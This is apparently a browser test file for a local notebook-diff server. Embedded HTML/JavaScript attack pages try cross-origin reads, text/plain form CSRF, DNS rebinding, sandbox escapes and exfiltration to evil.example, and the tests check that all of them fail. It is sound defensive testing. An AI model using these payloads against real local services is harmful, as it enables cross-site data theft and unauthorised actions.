/** The server and its pages in a real browser: a tab of ours, tabs of strangers, and what a notebook runs. */
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import type { LiveEvent, WebApp } from '../../src/web/app.ts';
import { WebRefusal } from '../../src/web/app.ts';
import { HAS_BROWSER, openAddress } from '../support/browser.ts';
import { hub, probeApp, stranger } from './pages.ts';
import { serve } from './served.ts';

interface Told {
  readonly app: WebApp;
  readonly emit: (event: LiveEvent) => void;
  /** What was done, and by whom. */
  readonly done: unknown[];
}

function told(more: Partial<WebApp> = {}): Told {
  let tell: (event: LiveEvent) => void = () => {};
  const done: unknown[] = [];
  const app = probeApp({
    actions: {
      echo: async (input) => {
        done.push(input);
        return { input };
      },
      refuse: async () => {
        throw new WebRefusal(409, 'the file has changed');
      },
    },
    watch: (emit) => {
      tell = emit;
      return () => {};
    },
    ...more,
  });
  return { app, emit: (event) => tell(event), done };
}

describe.skipIf(!HAS_BROWSER)('our page', () => {
  test('asks, is told, loads anew, and takes its code out of sight', async () => {
    const { app, emit } = told();
    const served = await serve(app);
    const { page, complaints } = await openAddress(await another(served));
    const items = page.locator('li');
    await items.nth(0).waitFor();
    expect(new URL(page.url()).hash).toBe('');
    await page.click('text=echo');
    await items.nth(1).waitFor();
    await page.click('text=refuse');
    await items.nth(2).waitFor();
    emit({ kind: 'changed', id: 'n1' });
    await items.nth(3).waitFor();
    expect(await items.allTextContents()).toEqual([
      '{"kind":"again"}',
      '{"input":{"from":"page"}}',
      '409 the file has changed',
      '{"kind":"changed","id":"n1"}',
    ]);
    await page.reload();
    await items.nth(0).waitFor();
    await page.click('text=echo');
    await items.nth(1).waitFor();
    expect(await items.allTextContents()).toEqual(['{"kind":"again"}', '{"input":{"from":"page"}}']);
    expect(await page.locator('.banner').count()).toBe(0);
    expect(complaints.filter((line) => !line.includes('favicon') && !line.includes('409'))).toEqual([]);
  });

  test('more tabs than a browser has connections, each told; one takes over when another goes', async () => {
    const { app, emit } = told();
    const served = await serve(app, { patience: 60_000 });
    const { page } = await openAddress(await another(served));
    await page.locator('li').nth(0).waitFor();
    const tabs = [page];
    for (let count = 0; count < 8; count += 1) {
      const [tab] = await Promise.all([page.context().waitForEvent('page'), press(page, 'tab')]);
      await tab.locator('li').nth(0).waitFor();
      tabs.push(tab);
    }
    for (const tab of tabs) {
      await press(tab, 'echo');
      await tab.locator('text="{\\"input\\":{\\"from\\":\\"page\\"}}"').waitFor();
    }
    emit({ kind: 'first' });
    for (const tab of tabs) await tab.locator('text="{\\"kind\\":\\"first\\"}"').waitFor();
    await tabs.shift()!.close();
    // The next one has the connection once all are told so.
    await tabs.at(-1)!.locator('text="{\\"kind\\":\\"again\\"}"').nth(1).waitFor();
    emit({ kind: 'second' });
    for (const tab of tabs) await tab.locator('text="{\\"kind\\":\\"second\\"}"').waitFor();
    await press(tabs[0]!, 'done');
    for (const tab of tabs) await tab.locator('text=This session is over').waitFor();
    expect(await served.exitCode).toBe(0);
  });

  test('says what to do where its address was used before, and where nobody answers any more', async () => {
    const served = await serve(told().app, { patience: 60_000 });
    const address = await another(served);
    const { page } = await openAddress(address);
    await page.locator('li').nth(0).waitFor();
    const second = await openAddress(address);
    await second.page.locator('text=Open the address that nbdiff has printed').waitFor();
    await served.post('done');
    await page.locator('text=This session is over').waitFor();
    expect(await page.locator('[role=alert]').count()).toBe(1);
  });

  test('comes back by itself after a connection was lost', async () => {
    const { app } = told();
    const served = await serve(app, { patience: 60_000 });
    const { page } = await openAddress(await another(served));
    await page.locator('li').nth(0).waitFor();
    await page.context().setOffline(true);
    await page.click('text=echo');
    await page.locator('text=The connection to nbdiff is lost').waitFor();
    await page.context().setOffline(false);
    await page.click('text=echo');
    await page.locator('.banner').waitFor({ state: 'detached' });
  });
});

describe.skipIf(!HAS_BROWSER)('behind a proxy', () => {
  test.each([
    ['that keeps the path', true],
    ['that takes it away', false],
  ])('%s the page is the same, in two tabs', async (_, keepsPath) => {
    const { app, emit } = told();
    const { port } = await hub(keepsPath);
    const proxy = { origin: `http://hub.example:${port}`, path: '/user/me/proxy/{port}/' };
    const served = await serve(app, { proxy, patience: 60_000 });
    const { code } = (await (await served.post('code')).json()) as { readonly code: string };
    const { page } = await openAddress(served.address.replace(/#.*/, `#${code}`));
    await page.locator('li').nth(0).waitFor();
    const [tab] = await Promise.all([page.context().waitForEvent('page'), press(page, 'tab')]);
    await tab.locator('li').nth(0).waitFor();
    await press(tab, 'echo');
    await tab.locator('text="{\\"input\\":{\\"from\\":\\"page\\"}}"').waitFor();
    emit({ kind: 'changed' });
    for (const one of [page, tab]) await one.locator('text="{\\"kind\\":\\"changed\\"}"').waitFor();
    await press(tab, 'done');
    for (const one of [page, tab]) await one.locator('text=This session is over').waitFor();
    expect(await served.exitCode).toBe(0);
  });
});

/** What a stranger's page can try, told in its title once all is over: what it could read. */
const attack = (ours: string, key: string): string => `<!doctype html><html><body>
<form method="post" action="${ours}/api/echo" enctype="text/plain" target="sink"><input name='{"a":"' value='"}'></form>
<iframe name="sink"></iframe><iframe id="page" src="${ours}/"></iframe><iframe id="shown" src="${ours}/frame/f1"></iframe>
<script>
const got = [];
const read = async (name, work) => {
  try {
    const value = await work();
    if (value !== undefined) got.push(name + ' ' + value);
  } catch {}
};
const json = { 'content-type': 'application/json', 'nbdiff-key': ${JSON.stringify(key)} };
const load = (tag, set) => new Promise((resolve) => {
  const element = document.createElement(tag);
  set(element);
  element.onload = () => resolve(tag);
  element.onerror = () => resolve(undefined);
  document.body.append(element);
});
(async () => {
  await read('page', async () => (await fetch('${ours}/')).text());
  await read('asset', async () => (await fetch('${ours}/assets/probe.js')).text());
  await read('frame', async () => (await fetch('${ours}/frame/f1')).text());
  await read('action', async () => (await fetch('${ours}/api/echo', { method: 'POST', headers: json, body: '{}' })).text());
  for (const action of ['echo', 'done', 'key'])
    for (const body of ['{}', new URLSearchParams('a=1'), new Blob(['{}'], { type: 'text/plain' })]) {
      await read('blind ' + action, async () => {
        const answer = await fetch('${ours}/api/' + action, { method: 'POST', mode: 'no-cors', credentials: 'include', body });
        return answer.type === 'opaque' ? undefined : answer.type;
      });
      navigator.sendBeacon('${ours}/api/' + action, body);
    }
  await read('blind page', async () => ((await fetch('${ours}/', { mode: 'no-cors' })).type === 'opaque' ? undefined : 'seen'));
  await read('script', () => load('script', (element) => { element.src = '${ours}/assets/probe.js'; }));
  await read('style', () => load('link', (element) => { element.rel = 'stylesheet'; element.href = '${ours}/assets/page.css'; }));
  await read('picture', () => load('img', (element) => { element.src = '${ours}/assets/probe.js'; }));
  await read('socket', () => new Promise((resolve) => {
    const socket = new WebSocket('${ours}/api/events'.replace('http', 'ws'));
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve(undefined);
  }));
  await read('events', () => new Promise((resolve) => {
    const events = new EventSource('${ours}/api/events');
    events.onopen = () => resolve('open');
    events.onerror = () => { events.close(); resolve(undefined); };
  }));
  await read('window', async () => {
    const other = open('${ours}/');
    await new Promise((resolve) => setTimeout(resolve, 300));
    return other && !other.closed ? other.document.title : undefined;
  });
  for (const id of ['page', 'shown', 'sink'])
    await read('inside ' + id, async () => (document.getElementById(id) ?? frames[id]).contentDocument?.body.textContent || undefined);
  document.forms[0].submit();
  await new Promise((resolve) => setTimeout(resolve, 300));
  document.title = 'over ' + JSON.stringify(got);
})();
</script></body></html>`;

describe.skipIf(!HAS_BROWSER)('a page of a stranger can read nothing and change nothing', () => {
  test.each([
    ['of another site', 'evil.example'],
    ['of another port of this machine', '127.0.0.1'],
  ])('%s, though it knew the key', async (_, host) => {
    const { app, done } = told();
    const served = await serve(app);
    const ours = `http://127.0.0.1:${served.port}`;
    const { port } = await stranger(attack(ours, served.key));
    const { page } = await openAddress(`http://${host}:${port}/`);
    await page.waitForFunction(() => document.title.startsWith('over'));
    expect(await page.title()).toBe('over []');
    const frames = page.frames().filter((frame) => frame.url().startsWith(ours));
    for (const frame of frames) expect(await frame.locator('body').textContent()).not.toContain('content');
    expect([done, served.endings, served.said.length]).toEqual([[], [], 1]);
  });

  test('under a name that means this machine by now (DNS rebinding)', async () => {
    const before = await stranger('<!doctype html><p>a stranger');
    const { page } = await openAddress(`http://rebound.example:${before.port}/`);
    await before.end();
    const { app, done } = told();
    const served = await serve(app, { port: before.port });
    const read = await page.evaluate(async (key) => {
      const headers = { 'content-type': 'application/json', 'nbdiff-key': key };
      const asked = ['/', '/assets/probe.js', '/frame/f1'].map((path) => fetch(path));
      const sent = ['echo', 'done', 'key'].map((action) =>
        fetch(`/api/${action}`, { method: 'POST', headers, body: '{}' }),
      );
      return Promise.all([...asked, ...sent].map(async (answer) => (await answer).status));
    }, served.key);
    expect(read).toEqual([403, 403, 403, 403, 403, 403]);
    expect([done, served.endings]).toEqual([[], []]);
    await page.reload();
    expect(await page.locator('body').textContent()).toContain('does not answer to the name');
  });
});

/** What a notebook may run, and what it then tries; it tells by the only way that it has. */
const hostile = (elsewhere: string): string => `<!doctype html><html><body><p>shown</p><script>
const got = [];
const attempt = async (name, work) => {
  try {
    const value = await work();
    if (value !== undefined && value !== null && value !== '') got.push(name + ' ' + value);
  } catch {}
};
const load = (tag, set) => new Promise((resolve) => {
  const element = document.createElement(tag);
  set(element);
  element.onload = () => resolve(tag);
  element.onerror = () => resolve(undefined);
  document.body.append(element);
  setTimeout(resolve, 500);
});
(async () => {
  await attempt('cookie', () => { document.cookie = 'a=1'; return document.cookie; });
  for (const store of ['localStorage', 'sessionStorage', 'indexedDB', 'caches'])
    await attempt(store, async () => { const there = window[store]; if (store === 'caches') await there.open('a'); if (store === 'indexedDB') await new Promise((yes, no) => { const r = there.open('a'); r.onsuccess = yes; r.onerror = no; }); return String(there); });
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => top.location.href);
  await attempt('key', () => parent.sessionStorage.length);
  await attempt('origin', () => (origin === 'null' ? undefined : origin));
  for (const to of ['${elsewhere}/fetch', '/', '/api/echo', '/assets/probe.js'])
    await attempt('fetch ' + to, async () => (await fetch(to, { method: to.includes('api') ? 'POST' : 'GET', mode: 'no-cors' })).type);
  await attempt('beacon', () => { navigator.sendBeacon('${elsewhere}/beacon', 'x'); });
  await attempt('socket', () => new Promise((yes, no) => { const s = new WebSocket('${elsewhere}/socket'.replace('http', 'ws')); s.onopen = () => yes('open'); s.onerror = no; }));
  await attempt('script', () => load('script', (e) => { e.src = '${elsewhere}/script.js'; }));
  await attempt('style', () => load('link', (e) => { e.rel = 'stylesheet'; e.href = '${elsewhere}/style.css'; }));
  await attempt('picture', () => load('img', (e) => { e.src = '${elsewhere}/picture.png'; }));
  await attempt('prefetch', () => load('link', (e) => { e.rel = 'prefetch'; e.href = '${elsewhere}/prefetch'; }));
  await attempt('frame', async () => { await load('iframe', (e) => { e.src = '${elsewhere}/frame'; }); });
  await attempt('nested', async () => { await load('iframe', (e) => { e.src = '/'; }); return frames[frames.length - 1]?.document?.title; });
  await attempt('object', () => load('object', (e) => { e.data = '${elsewhere}/object'; }));
  await attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return undefined; });
  await attempt('window', () => open('${elsewhere}/window'));
  await attempt('form', () => { const f = document.createElement('form'); f.action = '${elsewhere}/form'; f.method = 'post'; document.body.append(f); f.submit(); });
  await attempt('alert', () => { alert('x'); });
  if (top !== window) {
    await attempt('top away', () => { top.location = '${elsewhere}/top'; });
    await attempt('parent away', () => { parent.location.replace('${elsewhere}/parent'); });
  }
  await attempt('base', () => { const b = document.createElement('base'); b.href = '${elsewhere}/'; document.head.append(b); return document.baseURI.includes('example') ? 'moved' : undefined; });
  await new Promise((resolve) => setTimeout(resolve, 300));
  parent.postMessage({ got }, '*');
  document.title = 'over ' + JSON.stringify(got);
  if (top !== window) location.href = '${elsewhere}/self?' + document.body.textContent;
})();
</script></body></html>`;

describe.skipIf(!HAS_BROWSER)('what a notebook runs is alone', () => {
  /** A page that shows it, as ours do on a click, and one that forgot the sandbox. */
  const shows = (attribute: string): string => `<!doctype html><html lang="en"><title>ours</title>
<script src="assets/shows.js" defer></script><body><iframe ${attribute} src="frame/f1"></iframe></body></html>`;
  const script = `addEventListener('message', ({ data, origin }) => { document.title = origin + JSON.stringify(data); });`;

  test.each([
    'sandbox="allow-scripts"',
    '',
    'sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups"',
  ])('in a frame with %j', async (attribute) => {
    const other = await stranger('');
    const { app, done } = told({
      page: shows(attribute),
      assets: new Map([['shows.js', { type: 'text/javascript', content: script }]]),
      frame: () => hostile(`http://evil.example:${other.port}`),
    });
    const served = await serve(app, { patience: 60_000 });
    const { page } = await openAddress(await another(served));
    await page.waitForFunction(() => document.title !== 'ours');
    expect(await page.title()).toBe('null{"got":[]}');
    expect(page.url()).toContain(`127.0.0.1:${served.port}`);
    expect(page.context().pages()).toHaveLength(1);
    expect([other.asked, done, served.endings]).toEqual([[], [], []]);
  });

  test('in a window of its own', async () => {
    const other = await stranger('');
    const { app, done } = told({ frame: () => hostile(`http://evil.example:${other.port}`) });
    const served = await serve(app, { patience: 60_000 });
    const { page } = await openAddress(`http://127.0.0.1:${served.port}/frame/f1`);
    await page.waitForFunction(() => document.title.startsWith('over'));
    // It is its own parent and top.
    expect(await page.title()).toMatch(/^over \[("parent [^"]*",)?("top [^"]*",?)?\]$/);
    expect([done, served.endings]).toEqual([[], []]);
  });
});

/** A tab behind others draws nothing, which a real click waits for. */
async function press(page: Page, button: string): Promise<void> {
  await page.locator(`button:text-is("${button}")`).dispatchEvent('click');
}

/** A new address: `serve` has used the one that was printed. */
async function another(served: Awaited<ReturnType<typeof serve>>): Promise<string> {
  const { code } = (await (await served.post('code')).json()) as { readonly code: string };
  return `http://127.0.0.1:${served.port}/#${code}`;
}
